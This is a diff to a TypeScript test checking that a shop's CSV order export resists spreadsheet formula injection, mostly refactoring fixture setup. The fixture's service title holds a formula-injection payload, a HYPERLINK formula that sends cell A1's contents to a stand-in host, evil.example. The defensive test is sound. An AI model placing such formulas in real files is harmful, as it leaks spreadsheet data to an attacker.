@@ -7,7 +7,7 @@ import { randomUUID } from "node:crypto";
 import Papa from "papaparse";
 import { afterAll, beforeAll, expect, it } from "vitest";
 import { createTestDb, describeEachDb, type TestDb } from "@/lib/test/db";
-import { insertUser } from "@/lib/test/engine-fixtures";
+import { insertBatchRow, insertUser } from "@/lib/test/engine-fixtures";
 import { exportOrders } from "./export";
 import { orderFilterSchema } from "./schemas";
 
@@ -34,8 +34,8 @@ describeEachDb("CSV export against formula injection", (provider) => {
   beforeAll(async () => {
     db = await createTestDb(provider);
     const user = await insertUser(db, "csv@shop.test", "operator");
-    await db.write(async (p) => {
-      await p.service.create({
+    await db.write((p) =>
+      p.service.create({
         data: {
           id: "666",
           title: '=HYPERLINK("http://evil.example/?"&A1,"open")',
@@ -44,23 +44,11 @@ describeEachDb("CSV export against formula injection", (provider) => {
           deliveryTime: "Instant",
           refreshedAt: new Date(),
         },
-      });
-      const batch = await p.batch.create({
-        data: {
-          ownerId: user.id,
-          serviceId: "666",
-          sourceName: "-payload",
-          state: "done",
-          totalLines: 1,
-          toSubmit: 1,
-          invalidCount: 0,
-          duplicatesInBatch: 0,
-          alreadyOrderedCount: 0,
-          unitPriceMicros: 80_000n,
-          estimatedCostMicros: 80_000n,
-        },
-      });
-      await p.order.createMany({
+      }),
+    );
+    const batch = await insertBatchRow(db, { ownerId: user.id, serviceId: "666", state: "done", size: 1 });
+    await db.write((p) =>
+      p.order.createMany({
         data: [
           {
             id: randomUUID(),
@@ -77,8 +65,8 @@ describeEachDb("CSV export against formula injection", (provider) => {
             placedAt: new Date(),
           },
         ],
-      });
-    });
+      }),
+    );
     const rows = await exportOrders(db, user, orderFilterSchema.parse({}), {});
     for await (const chunk of rows) csv += chunk;
   });
